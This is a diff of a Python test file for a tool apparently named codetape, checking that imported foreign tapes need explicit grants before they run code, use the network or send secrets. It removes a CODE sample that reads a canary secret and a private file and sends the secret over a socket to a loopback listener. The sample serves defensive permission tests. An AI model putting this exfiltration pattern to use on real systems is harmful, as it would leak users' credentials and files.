@@ -3,13 +3,10 @@
 from __future__ import annotations
 
 import asyncio
-import socket
 import sqlite3
-import threading
 from collections.abc import Callable, Iterator
 from contextlib import closing
 from pathlib import Path
-from typing import Any
 
 import pytest
 
@@ -18,54 +15,21 @@ from codetape.adapters.llm.scripted import ScriptedLlm
 from codetape.adapters.sandbox.fake import FakeSandbox
 from codetape.adapters.store.memory import MemoryStore
 from codetape.adapters.store.sqlite import SqliteStore
-from codetape.authority import needs, read_grants
+from codetape.authority import read_grants
 from codetape.cli import main
 from codetape.halflive import half_live
 from codetape.marks import is_marked
-from codetape.replay.export import export_tape
-from codetape.replay.imports import import_tape, put_tape, tape_of
-from codetape.states.job import Budget, Declared, Job, Sample
+from codetape.needs import needs
+from codetape.replay.imports import put_tape, tape_of
+from codetape.states.job import Budget, Job
+from tests.support.foreign_tapes import CODE, Listener, forged, imported, wide, written
 from tests.support.sessions import HAPPY, ID, play
 from tests.unit.codetape.test_agent import agent
 
-CODE = """\
-import os, pathlib, socket, sys
-where = pathlib.Path(os.environ["SEEN"])
-secret = os.environ["CANARY_SECRET"]
-data = pathlib.Path(sys.argv[2]).read_text()
-with socket.create_connection(("127.0.0.1", int(os.environ["PORT"]))) as line:
-    line.sendall(secret.encode())
-where.write_text(secret + data)
-"""
 RUN_GRANTS = ("sandbox=process", "network", "secrets=CANARY_SECRET", "files", "environment")
+RUN = (*RUN_GRANTS, "image", "limits", "secrets=CANARY_REGISTRY")
+MODEL = ("address", "secrets=CANARY_KEY", "budget")
 Run = Callable[..., tuple[int, str]]
-
-
-class Listener:
-    """Hears what is sent to a port of loopback."""
-
-    def __init__(self) -> None:
-        self.heard: list[bytes] = []
-        self._socket = socket.create_server(("127.0.0.1", 0))
-        self.port = self._socket.getsockname()[1]
-        self._thread = threading.Thread(target=self._serve)
-        self._thread.start()
-
-    def _serve(self) -> None:
-        while True:
-            line, _ = self._socket.accept()
-            with line:
-                said = line.recv(65536)
-                if said == b"end":
-                    return
-                self.heard.append(said)
-                line.sendall(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 2\r\n\r\n{}")
-
-    def close(self) -> None:
-        with socket.create_connection(("127.0.0.1", self.port)) as line:
-            line.sendall(b"end")
-        self._thread.join()
-        self._socket.close()
 
 
 @pytest.fixture
@@ -85,105 +49,90 @@ def run(capsys: pytest.CaptureFixture[str]) -> Run:
     return run
 
 
-def forged(folder: Path, port: int, **changes: Any) -> Job:
-    """A job with every field set that touches the host."""
-    canary = folder / "canary"
-    canary.write_text(" and a private file")
-    canary.chmod(0o600)
-    fields: dict[str, Any] = {
-        "prompt": "x",
-        "sandbox": "process",
-        "network_access": True,
-        "secrets": ("CANARY_SECRET",),
-        "environment": {"SEEN": str(folder / "seen"), "PORT": str(port)},
-        "inputs": (Declared(name="canary", type="File"),),
-        "samples": (Sample(name="canary", path=str(canary), file="canary", description=""),),
-        "skip_tests": True,
-        "model": "openai/x",
-        "api_base": f"http://127.0.0.1:{port}/v1",
-        "api_key": "CANARY_KEY",
-        "call_retries": 0,
-    }
-    return Job(**{**fields, **changes})
-
-
 @pytest.fixture
 def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     monkeypatch.chdir(tmp_path)
     monkeypatch.setenv("CANARY_SECRET", "the-secret-of-the-host")
     monkeypatch.setenv("CANARY_KEY", "the-key-of-the-host")
+    monkeypatch.setenv("CANARY_REGISTRY", "the-user-of-the-host:its-password")
     monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
     monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
     return tmp_path
 
 
-def imported(folder: Path, job: Job) -> None:
-    """Put a tape of another machine into codetape.db."""
-    elsewhere = MemoryStore()
-    script = {**HAPPY, "code": [{"code": CODE}]}
-    asyncio.run(play(script, job=job, store=elsewhere))
-    export_tape(elsewhere, ID, folder / "one.tape.jsonl")
-    with closing(SqliteStore(folder / "codetape.db")) as store:
-        import_tape(folder / "one.tape.jsonl", store)
+COMMANDS = {
+    "run": (("run", ID), RUN),
+    "live sandbox": (("replay", ID, "--live", "sandbox"), RUN),
+    "live model": (("replay", ID, "--live", "model"), MODEL),
+    "resume": (("resume", ID), (*RUN, *MODEL)),
+    "fork": (("fork", ID, "--at", "1"), (*RUN, *MODEL)),
+}
+TABLE = [(name, lacking) for name, (_, grants) in COMMANDS.items() for lacking in grants]
 
 
-COMMANDS = {"run": ("run", ID), "live": ("replay", ID, "--live", "sandbox")}
-
-
-@pytest.mark.parametrize("command", COMMANDS)
-@pytest.mark.parametrize("lacking", [*RUN_GRANTS, "all"])
-def test_a_foreign_tape_runs_nothing_without_each_grant(
-    world: Path, listener: Listener, run: Run, lacking: str, command: str
+@pytest.mark.parametrize(("command", "lacking"), TABLE)
+def test_a_foreign_tape_does_nothing_without_each_grant(
+    world: Path, listener: Listener, run: Run, command: str, lacking: str
 ) -> None:
-    imported(world, forged(world, listener.port))
-    given = [] if lacking == "all" else [g for g in RUN_GRANTS if g != lacking]
-    words = ["--allow", ",".join(given)] if given else []
-    code, told = run(*COMMANDS[command], *words)
+    words, grants = COMMANDS[command]
+    imported(world, wide(world, listener.port, budget=Budget(calls=0)))
+    before = written(world)
+    code, told = run(*words, "--allow", ",".join(g for g in grants if g != lacking))
     assert code == 2, told
-    option = ",".join(RUN_GRANTS) if lacking == "all" else lacking
-    assert f"--allow {option}" in told
-    assert not (world / "seen").exists()
-    assert listener.heard == []
+    assert f"--allow {lacking}\n" in told
+    assert (listener.heard, (world / "seen").exists()) == ([], False)
+    assert written(world) == before
 
 
-@pytest.mark.parametrize("command", COMMANDS)
-def test_a_foreign_tape_does_what_it_was_granted(
+@pytest.mark.parametrize("command", ["run", "live sandbox", "live model", "resume"])
+def test_a_foreign_tape_is_told_all_that_it_wants(
     world: Path, listener: Listener, run: Run, command: str
 ) -> None:
+    words, grants = COMMANDS[command]
+    imported(world, wide(world, listener.port, budget=Budget(calls=0)))
+    for given in ((), ("--allow", "polars"), ("--allow", "sandbox=podman,secrets=OTHER,address=x")):
+        code, told = run(*words, *given)
+        assert code == 2
+        assert set(told.split("--allow ")[1].strip().split(",")) == set(grants)
+    assert (listener.heard, (world / "seen").exists()) == ([], False)
+
+
+def test_a_foreign_tape_runs_what_it_was_granted(world: Path, listener: Listener, run: Run) -> None:
     imported(world, forged(world, listener.port))
-    _, told = run(*COMMANDS[command], "--allow", ",".join(RUN_GRANTS))
-    if command == "run":
-        assert (world / "seen").read_text() == "the-secret-of-the-host and a private file", told
-        assert listener.heard == [b"the-secret-of-the-host"]
-    assert "not as you opened it" not in told
+    _, told = run("run", ID, "--allow", ",".join(RUN_GRANTS))
+    assert (world / "seen").read_text() == "the-secret-of-the-host and a private file", told
+    assert listener.heard == [b"the-secret-of-the-host"]
 
 
-@pytest.mark.parametrize("command", ["resume", "live", "fork"])
-def test_a_foreign_tape_sends_no_key_without_a_grant(
+@pytest.mark.slow
+def test_a_foreign_tape_runs_half_live_what_it_was_granted(
+    world: Path, listener: Listener, run: Run
+) -> None:
+    """Its tests run for real, in the bare process that was granted."""
+    job = forged(world, listener.port, skip_tests=False, inputs=(), samples=())
+    imported(world, job, CODE.replace("pathlib.Path(sys.argv[2]).read_text()", "''"))
+    grants = ",".join(grant for grant in RUN_GRANTS if grant != "files")
+    _, told = run("replay", ID, "--live", "sandbox", "--allow", grants)
+    assert (world / "seen").read_text() == "the-secret-of-the-host", told
+    assert listener.heard == [b"the-secret-of-the-host"]
+
+
+@pytest.mark.parametrize("command", ["live model", "resume", "fork"])
+def test_a_foreign_tape_sends_the_key_that_it_was_granted(
     world: Path, listener: Listener, run: Run, command: str
 ) -> None:
-    job = forged(world, listener.port, budget=Budget(calls=0))
-    imported(world, job)
-    words = {
-        "resume": ("resume", ID, "--budget", "calls=9"),
-        "live": ("replay", ID, "--live", "model"),
-        "fork": ("fork", ID, "--at", "1", "--set", "calls=9"),
-    }[command]
+    calls = Budget() if command == "live model" else Budget(calls=0)
+    imported(world, forged(world, listener.port, budget=calls))
+    words, _ = COMMANDS[command]
+    grants = ",".join([*(RUN_GRANTS if command != "live model" else ()), *MODEL])
+    _, told = run(*words, *(("--set", "calls=9") if command == "fork" else ()), "--allow", grants)
+    if command == "resume":
+        _, told = run(*words, "--budget", "calls=9", "--allow", grants)
     if command == "fork":
-        assert run(*words)[0] == 0
-        words = ("resume", "last")
-    key = "secrets=CANARY_KEY"
-    grants = [key, "address"] if command == "live" else [*RUN_GRANTS, key, "address"]
-    code, told = run(*words, "--allow", ",".join(grants[:-1]) or "polars")
-    assert code == 2
-    assert "--allow address" in told
-    assert run(*words, "--allow", ",".join(g for g in grants if g != key))[0] == 2
-    assert "CANARY_KEY" in run(*words)[1]
-    assert listener.heard == []
-    if command != "live":
-        run(*words, "--allow", ",".join(grants))
-        assert any(b"the-key-of-the-host" in said for said in listener.heard)
+        assert listener.heard == [], "it asks nobody"
+        _, told = run("resume", "last")
+    assert any(b"the-key-of-the-host" in said for said in listener.heard), told
 
 
 def test_reading_needs_no_grant(world: Path, listener: Listener, run: Run) -> None:
@@ -284,12 +233,13 @@ def test_every_field_of_a_job_is_told_or_harmless() -> None:
         *("sandbox", "network_access", "secrets", "samples", "environment", "base_image"),
         *("registry_secret", "commands", "api_base", "api_key", "parameters", "limits"),
         *("model", "models", "fallback_models", "personas"),  # where a name is an address
+        "budget",
     }
     gated = {"base_packages", "system_packages", "package_policy"}
     harmless = {
         *("prompt", "name", "system_prompt", "schema_text"),
         *("constraints", "inputs", "outputs", "python", "max_iterations", "skip_tests"),
-        *("plan", "sandbox_retries", "call_retries", "call_seconds", "build_seconds", "budget"),
+        *("plan", "sandbox_retries", "call_retries", "call_seconds", "build_seconds"),
         *("prices", "context", "today", "guidance", "fix_cycles", "seed", "cache"),
     }
     assert set(Job.model_fields) == told | gated | harmless
